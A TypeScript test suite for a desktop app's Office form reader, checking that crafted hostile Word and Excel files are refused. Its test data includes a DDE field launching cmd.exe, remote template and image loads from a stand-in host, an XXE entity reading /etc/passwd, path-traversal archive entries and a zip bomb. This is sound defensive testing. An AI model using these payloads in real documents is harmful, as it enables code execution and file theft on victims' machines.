import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { packeAus, packeEin } from '../../../../electron/backend/vordrucke/archive.ts';
import { liesVordruckdatei } from '../../../../electron/backend/vordrucke/reader.ts';
import { bearbeite } from '../../../../electron/backend/vordrucke/reading.ts';
import { ABLEHNUNG, Abgelehnt } from '../../../../electron/backend/vordrucke/refusal.ts';
import { mustervordruck } from '../../../../electron/backend/beispiel/vordruck.ts';
import { excelvordruck } from '../../../support/vordrucke.ts';
import { zip, type Zipeintrag } from '../../../support/zip.ts';

/** Every refusal with a file that was bent for it out of a sound form. */

async function satzVon(datei: Uint8Array): Promise<string> {
  const antwort = await bearbeite({ aufgabe: 'lesen', datei });
  return antwort.ergebnis === 'abgelehnt' ? antwort.satz : 'angenommen';
}

/** The same in the thread that reads strangers' files. */
async function satzImThread(datei: Uint8Array): Promise<string> {
  try {
    await liesVordruckdatei(datei);
    return 'angenommen';
  } catch (fehler) {
    if (fehler instanceof Abgelehnt) return fehler.satz;
    throw fehler;
  }
}

/** The same file with parts changed (a function of their text), added, or dropped (null). */
async function verbogen(
  datei: Uint8Array,
  teile: Readonly<Record<string, ((text: string) => string) | string | null>>,
): Promise<Buffer> {
  const neue = new Map(await packeAus(datei));
  for (const [name, aenderung] of Object.entries(teile)) {
    if (aenderung === null) neue.delete(name);
    else {
      const text = typeof aenderung === 'string' ? aenderung : aenderung(neue.get(name)?.toString() ?? '');
      neue.set(name, Buffer.from(text));
    }
  }
  return packeEin(neue, new Map());
}

const muster = await mustervordruck();
const mitDokument = (aenderung: (text: string) => string) => verbogen(muster, { 'word/document.xml': aenderung });
const mitAnfang = (xml: string) => mitDokument((text) => text.replace('<w:body>', `<w:body>${xml}`));
const mitBeziehung = (beziehung: string) =>
  verbogen(muster, {
    'word/_rels/document.xml.rels': (text) => text.replace('</Relationships>', `${beziehung}</Relationships>`),
  });
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const beziehung = (typ: string, ziel: string, aussen = true) =>
  `<Relationship Id="rId9" Type="${OFFICE}/${typ}" Target="${ziel}"${aussen ? ' TargetMode="External"' : ''}/>`;
const feldMit = (befehl: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${befehl.slice(0, 4)}</w:instrText></w:r><w:r><w:instrText xml:space="preserve">${befehl.slice(4)} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

async function eintraege(datei: Uint8Array): Promise<Zipeintrag[]> {
  return [...(await packeAus(datei))].map(([name, inhalt]) => ({ name, inhalt }));
}

test('the forms that every hostile one is bent from are taken, also with links to click on', async () => {
  expect(await satzVon(muster)).toBe('angenommen');
  expect(await satzVon(await excelvordruck())).toBe('angenommen');
  expect(await satzVon(zip(await eintraege(muster)))).toBe('angenommen');
  expect(await satzVon(await mitBeziehung(beziehung('hyperlink', 'https://rp.example/hinweise')))).toBe('angenommen');
  expect(await satzVon(await mitAnfang(feldMit('DATE \\@ "dd.MM.yyyy"')))).toBe('angenommen');
});

describe('A file is refused', () => {
  test('that is no Word or Excel file, empty, too large, old or with a password', async () => {
    expect(await satzImThread(new Uint8Array())).toBe(ABLEHNUNG.leer);
    expect(await satzImThread(new Uint8Array(10 * 1024 * 1024 + 1))).toBe(ABLEHNUNG.groesse);
    expect(await satzVon(Buffer.from('%PDF-1.7'))).toBe(ABLEHNUNG.art);
    expect(await satzVon(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]))).toBe(
      ABLEHNUNG.kennwort,
    );
    expect(await satzVon(zip([{ name: 'brief.txt', inhalt: Buffer.from('Guten Tag') }]))).toBe(ABLEHNUNG.art);
    expect(
      await satzVon(
        zip(
          (await eintraege(muster)).map((einer) => ({
            ...einer,
            merkmale: 1,
            gepackt: Buffer.concat([Buffer.alloc(12), einer.inhalt]),
          })),
        ),
      ),
    ).toBe(ABLEHNUNG.kennwort);
    const vorlage = await verbogen(muster, {
      '[Content_Types].xml': (text) => text.replace('document.main+xml', 'template.main+xml'),
    });
    expect(await satzVon(vorlage)).toBe(ABLEHNUNG.vorlage);
  });

  test('that is cut off or whose text is no XML', async () => {
    expect(await satzVon(muster.subarray(0, muster.length - 40))).toBe(ABLEHNUNG.beschaedigt);
    expect(await satzVon(await mitDokument((text) => text.replace('</w:body>', '')))).toBe(ABLEHNUNG.beschaedigt);
    expect(await satzVon(await verbogen(muster, { 'word/document.xml': null }))).toBe(ABLEHNUNG.beschaedigt);
    // Another prefix would hide what is looked for.
    const andereVorsilbe = await mitDokument((text) =>
      text.replaceAll('<w:', '<q:').replaceAll('</w:', '</q:').replace('xmlns:w=', 'xmlns:q='),
    );
    expect(await satzVon(andereVorsilbe)).toBe(ABLEHNUNG.beschaedigt);
  });

  test('that has macros', async () => {
    expect(await satzVon(await verbogen(muster, { 'word/vbaProject.bin': 'x' }))).toBe(ABLEHNUNG.makros);
    const docm = await verbogen(muster, {
      '[Content_Types].xml': (text) =>
        text.replace(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
    });
    expect(await satzVon(docm)).toBe(ABLEHNUNG.makros);
    expect(await satzVon(await mitBeziehung(beziehung('vbaProject', 'programm.bin', false)))).toBe(ABLEHNUNG.makros);
  });

  test('that fetches something from elsewhere', async () => {
    for (const [typ, ziel] of [
      ['attachedTemplate', 'https://boese.example/v.dotm'],
      ['image', 'https://boese.example/pixel.png'],
      ['frame', 'file:///C:/rahmen.docx'],
      ['hyperlink', 'file://server/freigabe/x.exe'],
      ['hyperlink', 'javascript:alert(1)'],
    ] as const) {
      expect([typ, await satzVon(await mitBeziehung(beziehung(typ, ziel)))]).toEqual([typ, ABLEHNUNG.verknuepfung]);
    }
    for (const befehl of [
      'DDEAUTO c:\\\\cmd.exe "/k calc"',
      'INCLUDETEXT "https://boese.example"',
      'LINK Excel.Sheet x',
    ]) {
      expect([befehl, await satzVon(await mitAnfang(feldMit(befehl)))]).toEqual([befehl, ABLEHNUNG.verknuepfung]);
    }
    expect(await satzVon(await mitAnfang('<w:altChunk r:id="rId1"/>'))).toBe(ABLEHNUNG.verknuepfung);
    const mitVerbindung = await verbogen(await excelvordruck(), { 'xl/connections.xml': '<connections/>' });
    expect(await satzVon(mitVerbindung)).toBe(ABLEHNUNG.verknuepfung);
  });

  test('that holds objects', async () => {
    expect(await satzVon(await verbogen(muster, { 'word/embeddings/oleObject1.bin': 'x' }))).toBe(
      ABLEHNUNG.eingebettet,
    );
    expect(await satzVon(await mitAnfang('<w:p><w:r><w:object/></w:r></w:p>'))).toBe(ABLEHNUNG.eingebettet);
  });

  test('that has a document type or entities, in whatever letters', async () => {
    const dtd = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
    for (const name of ['word/document.xml', 'word/styles.xml', '[Content_Types].xml', '_rels/.rels']) {
      const datei = await verbogen(muster, { [name]: (text) => text.replace('?>', `?>${dtd}`) });
      expect([name, await satzVon(datei)]).toEqual([name, ABLEHNUNG.dtd]);
    }
    const teile = new Map(await packeAus(muster));
    const text = (teile.get('word/document.xml')?.toString() ?? '')
      .replace('?>', `?>${dtd}`)
      .replace('UTF-8', 'UTF-16');
    teile.set('word/document.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
    expect(await satzVon(await packeEin(teile, new Map()))).toBe(ABLEHNUNG.dtd);
  });

  test('whose parts have names that lead elsewhere, or are links, or stand twice', async () => {
    const alle = await eintraege(muster);
    const dazu = (einer: Partial<Zipeintrag>) =>
      zip([...alle, { name: 'word/x.xml', inhalt: Buffer.from('<x/>'), ...einer }]);
    for (const name of ['../../boese.xml', '/etc/passwd', 'C:\\boese.xml', 'word/./document.xml', 'word\u0000.xml']) {
      expect([name, await satzVon(dazu({ name }))]).toEqual([name, ABLEHNUNG.name]);
    }
    expect(await satzVon(dazu({ unixArt: 0xa1ff }))).toBe(ABLEHNUNG.name);
    expect(await satzVon(dazu({ name: 'word/DOCUMENT.xml' }))).toBe(ABLEHNUNG.name);
  });

  test('that swells, lies about its sizes or has too many parts, in time and within the memory', async () => {
    const gross = Buffer.alloc(13 * 1024 * 1024, 0x20);
    const bombe = { name: 'word/gross.xml', inhalt: gross, gepackt: deflateRawSync(gross), verfahren: 8 };
    const alle = await eintraege(muster);
    const beginn = performance.now();
    expect(await satzImThread(zip([...alle, bombe]))).toBe(ABLEHNUNG.aufgeblaeht);
    expect(await satzVon(zip([...alle, { ...bombe, behauptet: 100 }]))).toBe(ABLEHNUNG.beschaedigt);
    const viele = Array.from({ length: 2_001 }, (_, nummer) => ({
      name: `word/${nummer}.xml`,
      inhalt: Buffer.from('<x/>'),
    }));
    expect(await satzVon(zip([...alle, ...viele]))).toBe(ABLEHNUNG.aufgeblaeht);
    // Deep trees end in the thread, not in the program.
    const tief = '<w:sdt><w:sdtContent>'.repeat(60_000) + '</w:sdtContent></w:sdt>'.repeat(60_000);
    expect(await satzVon(await mitAnfang(tief))).toBe(ABLEHNUNG.beschaedigt);
    expect(performance.now() - beginn).toBeLessThan(30_000);
  }, 60_000);

  test('that has no place to fill, or more than any form', async () => {
    expect(
      await satzVon(
        await mitDokument((text) =>
          text.replace(/<w:body>.*<w:sectPr>/s, '<w:body><w:p><w:r><w:t>Nur Text</w:t></w:r></w:p><w:sectPr>'),
        ),
      ),
    ).toBe(ABLEHNUNG.ohneStellen);
    const viele = '<w:p><w:r><w:t>Name: ____</w:t></w:r></w:p>'.repeat(2_001);
    expect(await satzVon(await mitAnfang(viele))).toBe(ABLEHNUNG.stellen);
  });
});

test('work that takes too long or too much memory is ended, and the next form is read', async () => {
  const satz = async (grenzen: { hoechstensMs: number; hoechstensMb: number }) =>
    liesVordruckdatei(muster, grenzen).then(
      () => 'angenommen',
      (fehler: unknown) => (fehler instanceof Abgelehnt ? fehler.satz : 'anderer Fehler'),
    );
  expect(await satz({ hoechstensMs: 1, hoechstensMb: 400 })).toBe(ABLEHNUNG.zeit);
  expect(await satz({ hoechstensMs: 10_000, hoechstensMb: -2_000 })).toBe(ABLEHNUNG.aufgeblaeht);
  expect(await satz({ hoechstensMs: 10_000, hoechstensMb: 400 })).toBe('angenommen');
});

test('every refusal is a German sentence', () => {
  for (const satz of Object.values(ABLEHNUNG)) expect(satz).toMatch(/^[A-ZÄÖÜ].*\.$/);
});
